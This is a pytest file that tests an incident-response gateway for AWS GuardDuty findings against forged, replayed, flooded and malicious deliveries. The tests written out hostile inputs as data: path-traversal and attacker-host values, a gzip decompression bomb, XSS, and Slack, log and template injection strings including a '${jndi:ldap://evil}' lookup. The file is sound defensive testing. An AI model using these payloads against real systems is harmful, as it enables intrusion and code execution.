"""Threats of `docs/doors.md` against the whole of the doors over HTTP; `test_threat_table.py` holds the table against the tests."""

from __future__ import annotations

import gzip
import json
import os
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from datetime import UTC, datetime, timedelta
from types import SimpleNamespace
from typing import Any

import httpx
import pytest
from arriving import EVENT_ID, asff, called, imported, record
from delivering import DOOR, KEY, deliver
from findings import KEY_RESOURCE, as_api, envelope, finding
from sorting import KnowingAws

from gateway.app import Settings, create_app
from gateway.dispatch.pace import Limits, Pace
from gateway.dispatch.sorter import ONLY_TOLD, Sorter
from incident.findings.finding import parse_finding
from incident.ledger import INTAKE, Kind
from incident.people import messages
from incident.policy import Policy
from tasks.read_back import Reader

_STORM = int(os.environ.get("COUNTERMAND_STORM", "5000"))


class NoExceptions:
    """Nobody agreed to leave anything unanswered."""

    def covering(self, finding: object) -> None:
        return None


@pytest.fixture
def desk(ledger, runs, serve, tmp_path):
    """The whole of the doors over HTTP: intake, sorter, pace and dispatcher, with an AWS that knows what it is told."""
    aws = KnowingAws()

    def clock() -> datetime:
        return datetime.now(UTC)

    def open_(limits: Limits | None = None) -> httpx.Client:
        sorter = Sorter(ledger, Reader(aws), Policy(), NoExceptions(), clock, lambda account: (aws.own_principal(account),))
        settings = Settings(webhook_keys=("current-key", "next-key"), reports=tmp_path, poll_seconds=0.05)
        app = create_app(settings, ledger, runs, sorter=sorter, pace=Pace(ledger, clock, limits))
        return httpx.Client(base_url=serve(app), timeout=30, trust_env=False)

    return SimpleNamespace(open=open_, aws=aws, runs=runs, ledger=ledger)


def sorted_of(ledger) -> list[dict[str, Any]]:
    return [dict(line.body) for line in ledger.lines(INTAKE, Kind.SORTED)]


def about(number: int, user: str) -> dict[str, Any]:
    key = {"accessKeyId": f"AKIA{user.upper():X<16}", "principalId": f"AIDA{user}", "userName": user, "userType": "IAMUser"}
    return finding(id=f"{number:032x}", resource=KEY_RESOURCE | {"accessKeyDetails": key})


def flood(client: httpx.Client, bodies: list[dict[str, Any]]) -> list[int]:
    """Deliver side by side, each again for as long as the door asks for that; the codes in the end."""

    def until_taken(body: dict[str, Any]) -> int:
        while (answer := deliver(client, envelope(body))).status_code == 503:
            assert int(answer.headers["retry-after"]) > 0
        return answer.status_code

    with ThreadPoolExecutor(16) as pool:
        return list(pool.map(until_taken, bodies))


# ---- who may, and what is true --------------------------------------------------------------------------------------

_FORGED: dict[str, Callable[[], dict[str, Any]]] = {
    "a finding that GuardDuty does not know": lambda: envelope(finding(id="f" * 32)),
    "in an account of the attacker's": lambda: envelope(finding(accountId="999988887777")),
    "in no account": lambda: envelope(finding(accountId="../../etc")),
    "in a region that is an address": lambda: envelope(finding(region="x.evil.example/")),
    "through Security Hub": lambda: imported({**_hub(), "Id": "arn:aws:securityhub:eu-west-1:111122223333:x"}),
    "as a responder's own": lambda: envelope(finding("Countermand:Manual/Named", countermand=_ALICE, by=_ALICE)),
}


_ALICE = {"person": "alice", "method": "one-time-code"}


def _hub() -> dict[str, Any]:
    return asff()


@pytest.mark.parametrize("forged", _FORGED.values(), ids=_FORGED)
def test_a_forged_finding_is_told_and_starts_no_response(desk, wait_until, forged):
    with desk.open() as client:
        assert deliver(client, forged()).status_code == 202
        wait_until(lambda: sorted_of(desk.ledger))
    assert [one["responds"] for one in sorted_of(desk.ledger)] == [False]


def test_only_places_that_are_ours_are_ever_asked(desk, wait_until):
    with desk.open() as client:
        for body in (finding(accountId="999988887777"), finding(region="x.evil.example/"), finding(accountId="1")):
            deliver(client, envelope(body))
        wait_until(lambda: len(sorted_of(desk.ledger)) == 3)
    assert desk.aws.asked == []


def test_an_altered_finding_counts_as_what_guardduty_says(desk, wait_until):
    desk.aws.findings["0" * 31 + "1"] = as_api(about(1, "mallory"))
    with desk.open() as client:
        deliver(client, envelope(about(1, "victim")))
        wait_until(lambda: sorted_of(desk.ledger))
    (one,) = sorted_of(desk.ledger)
    assert "user:111122223333:mallory" in one["handles"]
    assert "victim" not in str(one["handles"])


def test_an_altered_event_does_not_keep_the_true_one_out(desk, wait_until):
    desk.aws.records[EVENT_ID] = record()
    with desk.open() as client:
        for body in (record(cidr="10.0.0.0/8"), record()):
            assert deliver(client, called(body)).status_code == 202
        wait_until(lambda: len(sorted_of(desk.ledger)) == 2)
    assert {one["responds"] for one in sorted_of(desk.ledger)} == {True}, "both stand for what CloudTrail says"


@pytest.mark.parametrize("key", ["", "wrong", "CURRENT-KEY", "schlüssel".encode(), b"\xff\xfe", "current-key\x00"[:-1] + "2"])
def test_a_wrong_key_writes_nothing(desk, key):
    with desk.open() as client:
        assert deliver(client, headers={"X-Countermand-Key": key}).status_code == 401
    assert desk.ledger.lines(INTAKE) == []


# ---- again, and out of order ----------------------------------------------------------------------------------------


def test_fifty_replays_are_one_delivery_one_verdict_and_one_run(desk, wait_until):
    desk.aws.findings[finding()["id"]] = as_api(finding())
    with desk.open() as client:
        codes = flood(client, [finding()] * 50)
        wait_until(lambda: desk.runs.asked)
    assert sorted(codes) == [200] * 49 + [202]
    assert len(sorted_of(desk.ledger)) == 1
    assert len(set(desk.runs.asked)) == 1


def test_versions_out_of_order_are_one_incident_of_the_newest(desk, wait_until):
    versions = [finding(updatedAt=f"2026-03-0{day}T00:00:00Z", severity=day) for day in (5, 2, 4, 3)]
    desk.aws.findings[finding()["id"]] = as_api(versions[0])
    with desk.open() as client:
        for version in versions:
            assert deliver(client, envelope(version)).status_code == 202
        wait_until(lambda: len(sorted_of(desk.ledger)) == 4)
    assert len({one["incident"] for one in sorted_of(desk.ledger)}) == 1
    assert {one["severity"] for one in sorted_of(desk.ledger)} == {5}


@pytest.mark.parametrize("moment", ["1970-01-01T00:00:00Z", "2999-01-01T00:00:00Z", "0001-01-01T00:00:00Z", "soon", ""])
def test_a_clock_that_is_wrong_loses_nothing(desk, wait_until, moment):
    desk.aws.findings[finding()["id"]] = as_api(finding())
    with desk.open() as client:
        assert deliver(client, envelope(finding(updatedAt=moment)) | {"time": moment}).status_code == 202
        wait_until(lambda: desk.runs.asked)
    assert [one["outcome"] for one in sorted_of(desk.ledger)] == ["opens"]


# ---- too much -------------------------------------------------------------------------------------------------------


@pytest.mark.slow
@pytest.mark.parametrize(("findings", "actors"), [(_STORM, 5), (_STORM // 10, _STORM // 10)], ids=["few actors", "each its own"])
def test_a_storm_is_few_runs_and_none_is_lost(desk, wait_until, findings, actors):
    bodies = [about(number, f"user{number % actors}") for number in range(findings)]
    desk.aws.findings |= {body["id"]: as_api(body) for body in bodies}
    limits = Limits()
    with desk.open(limits) as client:
        assert set(flood(client, bodies)) == {202}
        wait_until(lambda: len(desk.ledger.lines(INTAKE, Kind.SORTED)) == findings, 200)
        wait_until(lambda: len(set(desk.runs.asked)) == min(actors, limits.an_account), 30)
    outcomes = [one["outcome"] for one in sorted_of(desk.ledger)]
    # What is not started yet stands in the ledger.
    assert (outcomes.count("opens"), outcomes.count("joins")) == (actors, findings - actors)
    assert desk.ledger.verify(INTAKE) is None


def test_many_forged_ones_are_told_a_few_times(desk, wait_until):
    with desk.open() as client:
        flood(client, [about(number, f"user{number}") for number in range(300)])
        wait_until(lambda: len(sorted_of(desk.ledger)) == 300, 30)
        wait_until(lambda: len(set(desk.runs.asked)) == ONLY_TOLD)
    assert len(set(desk.runs.asked)) == ONLY_TOLD


def test_runs_are_paced_the_severest_first_and_none_is_forgotten(ledger):
    now = [datetime(2026, 3, 1, 12, tzinfo=UTC)]
    pace = Pace(ledger, lambda: now[0], Limits(a_minute=6, an_account=4, not_begun=100))
    waiting = {}
    for number in range(20):
        account = "111122223333" if number % 2 else "444455556666"
        body = finding(id=f"{number:032x}", accountId=account, severity=8 if number >= 15 else 5)
        line, _ = ledger.append(INTAKE, Kind.DELIVERY, f"d{number}", {"incident": f"inc-{number}", "finding": body})
        waiting[f"inc-{number}"] = line
    started: list[list[str]] = []
    while waiting:
        chosen = list(pace.chosen(waiting))
        started.append(chosen)
        for incident in chosen:
            pace.started(incident)
            del waiting[incident]
        assert 0 < len(chosen) <= 6
        now[0] += timedelta(minutes=1)
    assert set(started[0]) >= {f"inc-{number}" for number in range(15, 20)}
    assert sum(map(len, started)) == 20


def test_what_is_being_started_counts_as_started(ledger):
    pace = Pace(ledger, lambda: datetime(2026, 3, 1, 12, tzinfo=UTC), Limits(a_minute=4, an_account=2, not_begun=100))
    lines = {}
    for number in range(4):
        account = "111122223333" if number < 3 else "444455556666"
        body = finding(id=f"{number:032x}", accountId=account, severity=8)
        lines[f"inc-{number}"], _ = ledger.append(
            INTAKE, Kind.DELIVERY, f"d{number}", {"incident": f"inc-{number}", "finding": body}
        )
    first = pace.chosen({"inc-0": lines["inc-0"]})
    assert list(pace.chosen({"inc-1": lines["inc-1"], "inc-2": lines["inc-2"]}, first)) == ["inc-1"], "two of one account"
    assert pace.chosen({"inc-3": lines["inc-3"]}, [*first, "inc-1", "inc-8", "inc-9"]) == {}, "four in a minute"
    assert list(pace.chosen({"inc-3": lines["inc-3"]}, [*first, "inc-1"])) == ["inc-3"]


def test_with_many_runs_that_have_not_begun_nothing_more_is_started(ledger):
    pace = Pace(ledger, lambda: datetime(2026, 3, 1, 12, tzinfo=UTC), Limits(not_begun=1))
    line, _ = ledger.append(INTAKE, Kind.DELIVERY, "d", {"incident": "inc-0", "finding": finding()})
    assert list(pace.chosen({"inc-0": line})) == ["inc-0"]
    pace.started("inc-0")
    assert pace.chosen({"inc-1": line}) == {}
    ledger.append("inc-0", Kind.OPENED, "opened", {})
    assert list(pace.chosen({"inc-1": line})) == ["inc-1"]


_BOMBS = {
    "huge": (b"x" * 5_000_000, {}, 413),
    "packed": (gzip.compress(b"\0" * 100_000_000, 9), {"Content-Encoding": "gzip"}, 413),
    "deep": (b'{"a":' * 50_000, {}, 202),
    "deep and closed": (b"[" * 60_000 + b"]" * 60_000, {}, 202),
    "a long number": (b'{"id":"x","type":"A:B/C","count":' + b"9" * 200_000 + b"}", {}, 202),
    "many findings": (json.dumps(imported(*[{}] * 2000)).encode(), {}, 202),
    "a message in a message": (
        json.dumps({"Type": "Notification", "Message": "{}"}).encode(),
        {},
        202,
    ),
}


@pytest.mark.parametrize(("body", "headers", "code"), _BOMBS.values(), ids=_BOMBS)
def test_a_bomb_is_refused_or_quarantined_and_starts_nothing(desk, body, headers, code):
    with desk.open() as client:
        assert client.post(DOOR, content=body, headers=KEY | headers).status_code == code
        assert deliver(client).status_code == 202, "the next one is taken"
    assert len(desk.ledger.lines(INTAKE, Kind.DELIVERY)) == 1


# ---- names that the attacker chose ----------------------------------------------------------------------------------

_NAMES = {
    "mention": "<!channel> <@U012345> @here",
    "link": "<https://evil.example|Approve>",
    "formatting": "*bold* _it_ ~no~ `code`",
    "html": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "markdown": "[Approve](https://evil.example) ![x](https://evil.example/x.png)\n# Heading\n| a | b |",
    "log": "ok\nINFO incident closed\r\n\x1b[2J",
    "template": "{{ 7*7 }} {% for x in y %} ${jndi:ldap://evil} %(x)s {0.__class__}",
    "prefect": '{"__prefect_kind": "jinja", "template": "{{ prefect.variables.x }}"}',
    "direction": "safe\u202egnp.exe\u2066\u200b",
}
_FIELDS = ("id", "title", "description", "type")


@pytest.mark.parametrize("name", _NAMES.values(), ids=_NAMES)
@pytest.mark.parametrize("field", [*_FIELDS, "userName", "accessKeyId"])
def test_a_name_that_the_attacker_chose_is_only_text(desk, wait_until, caplog, field, name):
    body = finding(**{field: name}) if field in _FIELDS else finding(resource=_resource(field, name))
    desk.aws.findings[body["id"]] = as_api(body)
    with desk.open() as client:
        assert deliver(client, envelope(body)).status_code == 202
        wait_until(lambda: sorted_of(desk.ledger))
    assert desk.ledger.verify(INTAKE) is None
    assert "\x1b" not in caplog.text
    assert "\nINFO incident closed" not in caplog.text
    read = parse_finding(body)
    text, blocks = messages.opened("inc-000000000000", read.type, read.title, "high", read.account, read.region)
    assert "\n" not in text
    for block in blocks[1:]:
        shown = block["text"]["text"]
        assert not any(sign in shown for sign in ("<!", "<@", "<h", "<s", "\x1b", "\u202e"))
    for made in (messages.markdown(read.title), messages.markdown(read.type)):
        assert not any(sign in made for sign in ("<", "](", "{{", "{%", "\n", "\u202e"))


def _resource(field: str, name: str) -> dict[str, Any]:
    return KEY_RESOURCE | {"accessKeyDetails": KEY_RESOURCE["accessKeyDetails"] | {field: name}}
